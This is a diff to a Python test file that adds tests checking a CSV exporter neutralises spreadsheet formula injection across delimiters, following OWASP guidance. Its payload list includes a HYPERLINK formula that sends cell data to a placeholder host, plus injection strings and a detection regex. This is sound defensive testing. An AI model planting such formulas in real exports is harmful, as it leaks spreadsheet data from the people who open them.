@@ -5,6 +5,7 @@ from __future__ import annotations
 import csv
 import io
 import json
+import re
 from typing import TYPE_CHECKING, Any, Final
 
 import pytest
@@ -200,6 +201,32 @@ def test_no_cell_of_a_csv_begins_like_a_formula(found: list[Mapping[str, Any]]):
 
 
 FORMULAS: Final = ['=HYPERLINK("http://x.example/?"&A1)', "+1", "-2+3", "@SUM(1)", "\t=1", "\uff1d1"]
+
+
+dangerous = st.text("=+-@\t\r\n;|, '\"a1\ufeff\uff1d", max_size=8)
+
+
+@HOWEVER_BUSY
+@given(
+    st.dictionaries(dangerous, dangerous | st.lists(dangerous, max_size=2), max_size=3), st.lists(dangerous, max_size=2)
+)
+def test_no_spreadsheet_of_any_country_finds_a_formula_and_nothing_is_lost(person: dict[str, Any], ids: list[str]):
+    """OWASP www-community#443: what ends a cell, and what is left out before a sign, differs by country and program."""
+    found = [{"_id": "1", "contactIds": ids, "profile": person}]
+    text = to_csv(found, columns=["_id"])
+    assert read_csv(text) == found
+    for delimiter in ",;|\t":
+        for row in csv.reader(io.StringIO(text.decode(), newline=""), delimiter=delimiter):
+            for cell in row:
+                assert not cell.strip('\ufeff \t\r\n"').startswith(("=", "+", "-", "@", "\uff1d")), (delimiter, cell)
+
+
+@pytest.mark.parametrize(
+    "cell", ["Max;=1+1", "\t=1+1", " =1+1", "\u00a0@x", "a\n=1", "'=1", "x|+1", '";"=1', "\ufeff=1"]
+)
+def test_a_cell_is_no_formula_behind_whatever_ends_a_cell(cell: str):
+    (_, (written,)) = csv.reader(io.StringIO(to_csv([{"c": cell}], columns=["c"]).decode(), newline=""))
+    assert not re.search(r"(?:^|[;|\t\r\n])[\s\"\ufeff]*[=+@-]", written)
 
 
 def test_formulas_come_out_of_a_csv_as_texts(caller: Caller):
